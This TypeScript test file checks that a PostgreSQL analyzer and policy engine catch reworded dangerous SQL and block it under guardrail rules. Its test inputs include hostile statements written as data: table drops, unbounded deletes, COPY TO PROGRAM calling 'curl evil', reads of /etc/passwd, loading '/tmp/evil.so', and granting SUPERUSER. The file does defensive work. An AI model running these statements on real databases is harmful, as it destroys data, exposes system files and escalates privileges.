// The analyzer must see the dangerous statement however it is worded.
import assert from 'node:assert/strict'
import type {Identity} from '../../../src/identity/types.js'
import {judgeOperation} from '../../../src/policy/evaluate.js'
import {parsePolicy} from '../../../src/policy/load.js'
import type {Statement} from '../../../src/policy/types.js'
import {analyzePostgres} from '../../../src/sql/pg-analyze.js'
import {loadPgParser} from '../../../src/sql/pg-parser.js'

before(() => loadPgParser())

/** The first statement of the analysis that satisfies `pred`, or fail with the whole analysis. */
function find(sql: string, pred: (s: Statement) => boolean): Statement {
  const op = analyzePostgres(sql)
  const s = op.statements.find(pred)
  assert.ok(s, `${sql} => ${JSON.stringify(op)}`)
  return s
}

describe('sql: analyzePostgres rewordings', () => {
  const dangerous: Array<[string, (s: Statement) => boolean]> = [
    ['dRoP tAbLe x', (s) => s.kind === 'drop' && s.command === 'DROP TABLE' && s.tables.includes('x')],
    ['DROP/*c*/TABLE x', (s) => s.kind === 'drop' && s.tables.includes('x')],
    ['DROP\n-- comment\nTABLE "X"', (s) => s.kind === 'drop' && s.tables.includes('X')],
    ['select 1; drop table x', (s) => s.kind === 'drop' && s.index === 1],
    ['select 1;drop table x;select 2', (s) => s.kind === 'drop' && s.index === 1],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', (s) => s.kind === 'delete' && s.via === 'prepare' && s.hasWhere === false],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', (s) => s.kind === 'delete' && s.via === 'cte' && s.hasWhere === false],
    ['SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u) q', (s) => s.kind === 'update' && s.via === 'cte'],
    ['DO $$ BEGIN EXECUTE \'drop table x\'; END $$', (s) => s.kind === 'do' && s.opaque === true && s.writes],
    ['DO $$ BEGIN EXECUTE \'drop table x\'; END $$', (s) => s.kind === 'drop' && s.via === 'do'],
    ['do language plpgsql $x$ begin delete from t; end $x$', (s) => s.kind === 'delete' && s.via === 'do' && s.hasWhere === false],
    ['COPY t FROM PROGRAM \'id\'', (s) => s.kind === 'copy' && s.copyProgram === true && s.writes],
    ['copy (select 1) to program \'curl evil\'', (s) => s.kind === 'copy' && s.copyProgram === true && s.writes],
    ['COPY t TO \'/etc/passwd\'', (s) => s.kind === 'copy' && s.copyFile === true && s.writes],
    ['EXPLAIN ANALYZE DELETE FROM t', (s) => s.kind === 'delete' && s.writes && s.via === 'explain' && s.command === 'EXPLAIN ANALYZE DELETE'],
    ['explain (analyze, format json) update t set a = 1', (s) => s.kind === 'update' && s.hasWhere === false],
    ['TRUNCATE public.t', (s) => s.kind === 'truncate' && s.tables.includes('public.t')],
    ['select pg_sleep(10)', (s) => s.functions.includes('pg_sleep')],
    ['select * from pg_catalog.pg_read_file(\'/etc/passwd\')', (s) => s.functions.includes('pg_catalog.pg_read_file')],
    ['select dblink_exec(\'host=x\', \'drop table y\')', (s) => s.functions.includes('dblink_exec') && s.writes],
    ['SELECT * FROM t FOR UPDATE', (s) => s.kind === 'select' && s.locksRows === true && s.writes],
    ['SELECT * INTO copy_t FROM t', (s) => s.kind === 'ddl' && s.command === 'SELECT INTO' && s.tables.includes('copy_t') && s.writes],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$', (s) => s.kind === 'ddl' && s.command === 'CREATE FUNCTION' && s.opaque === true],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$', (s) => s.kind === 'delete' && s.via === 'function'],
    ['CALL do_things()', (s) => s.kind === 'call' && s.writes && s.functions.includes('do_things')],
    ['GRANT ALL ON t TO public', (s) => s.kind === 'grant' && s.writes],
    ['ALTER ROLE me SUPERUSER', (s) => s.kind === 'grant'],
    ['SET default_transaction_read_only = off', (s) => s.kind === 'set' && s.writes],
    ['BEGIN READ WRITE', (s) => s.kind === 'transaction' && s.writes],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', (s) => s.kind === 'merge' && s.writes],
    ['INSERT INTO audit.log SELECT * FROM t', (s) => s.kind === 'insert' && s.tables.includes('audit.log') && s.tables.includes('t')],
    ['LOAD \'/tmp/evil.so\'', (s) => s.writes],
  ]
  for (const [sql, pred] of dangerous) {
    it(`sees through: ${sql.replace(/\n/g, ' ')}`, () => {
      find(sql, pred)
    })
  }

  it('tells DELETE with a WHERE from DELETE without one', () => {
    assert.equal(find('DELETE FROM t WHERE true', (s) => s.kind === 'delete').hasWhere, true)
    assert.equal(find('DELETE FROM t', (s) => s.kind === 'delete').hasWhere, false)
    assert.equal(find('update t set a = 1 where id = 2', (s) => s.kind === 'update').hasWhere, true)
    assert.equal(find('update t set a = 1', (s) => s.kind === 'update').hasWhere, false)
  })

  it('reads are not writes, and CTE names are not tables', () => {
    const op = analyzePostgres('WITH recent AS (SELECT * FROM public.orders) SELECT count(*) FROM recent JOIN customers c USING (id)')
    assert.equal(op.statements.length, 1)
    assert.deepEqual({...op.statements[0], tables: op.statements[0].tables.sort()}, {kind: 'select', command: 'SELECT', tables: ['customers', 'public.orders'], writes: false, functions: ['count'], index: 0})
    assert.equal(find('EXPLAIN DELETE FROM t', () => true).kind, 'explain')
    assert.equal(find('EXPLAIN (ANALYZE false) DELETE FROM t', () => true).writes, false)
    assert.equal(find('SHOW search_path', () => true).writes, false)
    assert.equal(find('BEGIN', () => true).writes, false)
  })

  it('judges EXECUTE by the session\'s prepared statements', () => {
    const prepared = new Map<string, Statement[]>()
    analyzePostgres('PREPARE wipe AS DELETE FROM t', {prepared})
    const op = analyzePostgres('EXECUTE wipe', {prepared})
    assert.deepEqual(op.statements.map((s) => [s.kind, s.via]), [['delete', 'execute']])
    assert.equal(analyzePostgres('EXECUTE unknown').statements[0].kind, 'execute')
  })

  it('never throws on deeply nested input: analyzed, or reported unparsable', () => {
    for (const n of [100, 3000, 20000]) {
      const op = analyzePostgres('select ' + 'f('.repeat(n) + '1' + ')'.repeat(n))
      assert.ok(op.unparsable || op.statements[0].functions.includes('f'), `depth ${n}`)
    }
  })

  it('reports unparsable SQL with the parser\'s message', () => {
    const op = analyzePostgres('DROP TABEL x')
    assert.deepEqual(op.statements, [])
    assert.match(op.unparsable?.reason ?? '', /syntax error at or near "TABEL"/)
  })
})

describe('sql + policy: guardrails hold against rewording', () => {
  const policy = parsePolicy(
    `version: 1
rules:
  - {id: all, effect: allow}
  - id: no-drop
    match: {kinds: [drop, truncate]}
    effect: block
  - id: unbounded-writes
    match: {kinds: [update, delete], where: absent}
    effect: block
  - {id: no-program, effect: block, match: {copyProgram: true}}
  - {id: no-do, effect: block, match: {kinds: [do]}}
`,
    'p.yaml',
  )
  const alice: Identity = {kind: 'user', subject: 'a', name: 'alice', email: 'alice@example.com', groups: []}
  const judge = (sql: string) => judgeOperation(policy, alice, {name: 'db', type: 'postgres'}, analyzePostgres(sql))

  const cases: Array<[string, string]> = [
    ['dRoP tAbLe x', 'no-drop'],
    ['DROP/*c*/TABLE x', 'no-drop'],
    ['select 1; drop table x', 'no-drop'],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', 'unbounded-writes'],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'unbounded-writes'],
    ['DO $$ BEGIN EXECUTE \'drop table x\'; END $$', 'no-drop'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'no-do'],
    ['COPY t FROM PROGRAM \'id\'', 'no-program'],
    ['EXPLAIN ANALYZE DELETE FROM t', 'unbounded-writes'],
    ['DELETE FROM t', 'unbounded-writes'],
    ['DELETE FROM t WHERE true', 'all'],
    ['select * from t', 'all'],
    ['SELEC 1', 'default-unparsable'],
  ]
  for (const [sql, ruleId] of cases) {
    it(`${sql} -> ${ruleId}`, () => {
      const d = judge(sql)
      assert.equal(d.ruleId, ruleId, JSON.stringify(d))
      assert.equal(d.effect, ruleId === 'all' ? 'allow' : 'block')
    })
  }
})
